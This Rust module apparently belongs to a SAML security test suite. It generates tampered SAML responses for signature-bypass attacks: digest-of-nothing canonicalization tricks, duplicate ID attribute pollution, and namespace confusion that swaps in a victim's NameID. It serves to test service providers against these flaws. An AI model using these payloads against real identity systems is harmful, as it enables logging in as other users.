//! "The Fragile Lock" (2025): canonicalization of nothing, attributes that are IDs for one reader only, and names that are
//! in another namespace for one of two parsers.

use super::{ASSERTION, Attack, Class, RESPONSE, SIGNATURE, edit};
use crate::idp::response::Sign;

/// SHA-256 of no bytes.
const NOTHING: &str = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
const DS: &str = "http://www.w3.org/2000/09/xmldsig#";
const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for sign in [Sign::Assertion, Sign::Response] {
        attacks.extend(void(sign));
    }
    attacks.extend(pollution());
    attacks.extend(confusion());
    attacks
}

/// About the victim, with the digest that a failed canonicalization has.
fn void_digest(xml: &str, material: &super::Material<'_>) -> anyhow::Result<String> {
    let evil = edit::replace(xml, &material.honest.name_id, material.victim)?;
    let digest = edit::piece(&evil, "<ds:DigestValue>", "</ds:DigestValue>")?;
    edit::replace_first(&evil, digest, &format!("<ds:DigestValue>{NOTHING}</ds:DigestValue>"))
}

fn void(sign: Sign) -> Vec<Attack> {
    let class = Class::of("void c14n", sign);
    let element = if sign == Sign::Response { RESPONSE } else { ASSERTION.0 };
    let relative = move |xml: &str| edit::replace_first(xml, element, &format!("{element}xmlns:ns=\"1\" "));
    vec![
        class.tampered("void-c14n-digest", 306, move |xml, material| relative(&void_digest(xml, material)?)),
        class.tampered("void-c14n-digest-inclusive", 306, move |xml, material| {
            let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
            let xml = relative(&void_digest(xml, material)?)?;
            let transform = edit::piece(
                &xml,
                "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\">",
                "</ds:Transform>",
            )?;
            edit::replace_first(&xml, transform, &format!("<ds:Transform Algorithm=\"{inclusive}\"/>"))
        }),
        class.tampered("void-c14n-signedinfo", 306, |xml, material| {
            let evil = edit::replace(xml, &material.honest.name_id, material.victim)?;
            edit::replace_first(&evil, "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ns=\"1\">")
        }),
        class.tampered("void-c14n-relative-default-namespace", 306, |xml, _| {
            edit::replace_first(xml, "<saml2p:Status>", "<saml2p:Status xmlns=\"relative\">")
        }),
        class.tampered("void-c14n-path-namespace", 306, |xml, _| {
            edit::replace_first(xml, "<saml2p:Status>", "<saml2p:Status xmlns:ns=\"/path:x\">")
        }),
        class.tampered("void-c14n-empty-nodeset", 414, |xml, material| {
            let nothing = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">\
                           <ds:XPath>self::node()[false()]</ds:XPath></ds:Transform>";
            edit::replace_first(&void_digest(xml, material)?, "<ds:Transforms>", &format!("<ds:Transforms>{nothing}"))
        }),
        class.tampered("digest-of-nothing", 504, void_digest),
    ]
}

/// The ID that the signature names and the ID that the reader sees.
fn pollution() -> Vec<Attack> {
    let class = Class::of("attribute pollution", Sign::Assertion);
    let spellings = [
        ("attr-pollution-prefixed", 410, "ID=\"_evil\" xmlns:x=\"urn:x\" x:ID=\"{id}\""),
        ("attr-pollution-prefixed-first", 410, "xmlns:x=\"urn:x\" x:ID=\"{id}\" ID=\"_evil\""),
        ("attr-pollution-saml-prefixed", 410, "ID=\"_evil\" saml2:ID=\"{id}\""),
        ("attr-pollution-xml-id", 410, "ID=\"_evil\" xml:id=\"{id}\""),
        ("attr-pollution-Id", 410, "ID=\"_evil\" Id=\"{id}\""),
        ("attr-pollution-id", 410, "ID=\"_evil\" id=\"{id}\""),
        ("attr-pollution-iD", 410, "ID=\"_evil\" iD=\"{id}\""),
        ("attr-pollution-AssertionID", 410, "ID=\"_evil\" AssertionID=\"{id}\""),
        ("attr-pollution-only-Id", 410, "Id=\"{id}\""),
        ("attr-pollution-none", 408, ""),
        ("attr-pollution-empty", 408, "ID=\"\""),
        ("attr-pollution-space", 408, "ID=\" {id}\""),
        ("attr-pollution-other", 413, "ID=\"_evil\""),
    ];
    let attack = |(name, code, attributes): (&str, u16, &'static str)| {
        class.tampered(name, code, move |xml, material| {
            let id = edit::value(xml, ASSERTION.0, "ID")?;
            let evil = edit::replace(xml, &material.honest.name_id, material.victim)?;
            edit::replace_first(
                &evil,
                &format!("ID=\"{id}\" IssueInstant"),
                &format!("{} IssueInstant", attributes.replace("{id}", &id)),
            )
        })
    };
    spellings.into_iter().map(attack).collect()
}

/// What has the name of an element of ours, but is none.
fn confusion() -> Vec<Attack> {
    let class = Class::of("namespace confusion", Sign::Assertion);
    vec![
        class.tampered("ns-confusion-signature", 420, |xml, _| {
            let signature = edit::piece(xml, SIGNATURE.0, SIGNATURE.1)?;
            edit::replace_first(xml, signature, &edit::replace_first(signature, DS, "urn:x")?)
        }),
        class.tampered("ns-confusion-signature-beside", 402, |xml, _| {
            edit::before(xml, "<saml2p:Status>", "<x:Signature xmlns:x=\"urn:x\"/>")
        }),
        class.tampered("ns-confusion-signedinfo", 411, |xml, _| {
            let info = edit::piece(xml, "<ds:SignedInfo>", "</ds:SignedInfo>")?;
            let foreign = info
                .replace("<ds:SignedInfo>", "<x:SignedInfo xmlns:x=\"urn:x\">")
                .replace("</ds:SignedInfo>", "</x:SignedInfo>");
            edit::replace_first(xml, info, &foreign)
        }),
        class.tampered("ns-confusion-assertion", 402, |xml, material| {
            let evil = edit::piece(xml, ASSERTION.0, ASSERTION.1)?.replace(&material.honest.name_id, material.victim);
            let evil = edit::cut(&evil.replace(SAML, "urn:x"), SIGNATURE.0, SIGNATURE.1)?;
            let evil = edit::set(&evil, ASSERTION.0, "ID", Some("_evil"))?;
            edit::before(xml, ASSERTION.0, &evil)
        }),
        class.tampered("ns-confusion-saml-1", 406, |xml, _| {
            edit::in_assertion(xml, |assertion| {
                edit::replace_first(assertion, SAML, "urn:oasis:names:tc:SAML:1.0:assertion")
            })
        }),
        class.tampered("ns-confusion-no-namespace", 402, |xml, _| {
            let evil = edit::piece(xml, ASSERTION.0, ASSERTION.1)?;
            edit::replace_first(xml, evil, "<Assertion ID=\"_evil\"/>")
        }),
        class.tampered("ns-confusion-response", 401, |xml, _| {
            edit::replace_first(xml, "urn:oasis:names:tc:SAML:2.0:protocol", "urn:oasis:names:tc:SAML:2.0:protocol/")
        }),
        class.tampered("ns-confusion-subject", 420, |xml, material| {
            let subject =
                format!("<x:Subject xmlns:x=\"urn:x\"><saml2:NameID>{}</saml2:NameID></x:Subject>", material.victim);
            edit::before(xml, "<saml2:Subject>", &subject)
        }),
        class.tampered("ns-confusion-nameid", 504, |xml, material| {
            let name = format!("<x:NameID xmlns:x=\"urn:x\">{}</x:NameID>", material.victim);
            edit::before(xml, "<saml2:NameID ", &name)
        }),
        class.tampered("ns-confusion-redeclared-prefix", 504, |xml, _| {
            edit::replace_first(
                xml,
                "<saml2:Subject>",
                "<saml2:Subject xmlns:saml2=\"urn:oasis:names:tc:SAML:2.0:assertion\" xmlns:xs=\"urn:x\">",
            )
        }),
    ]
}
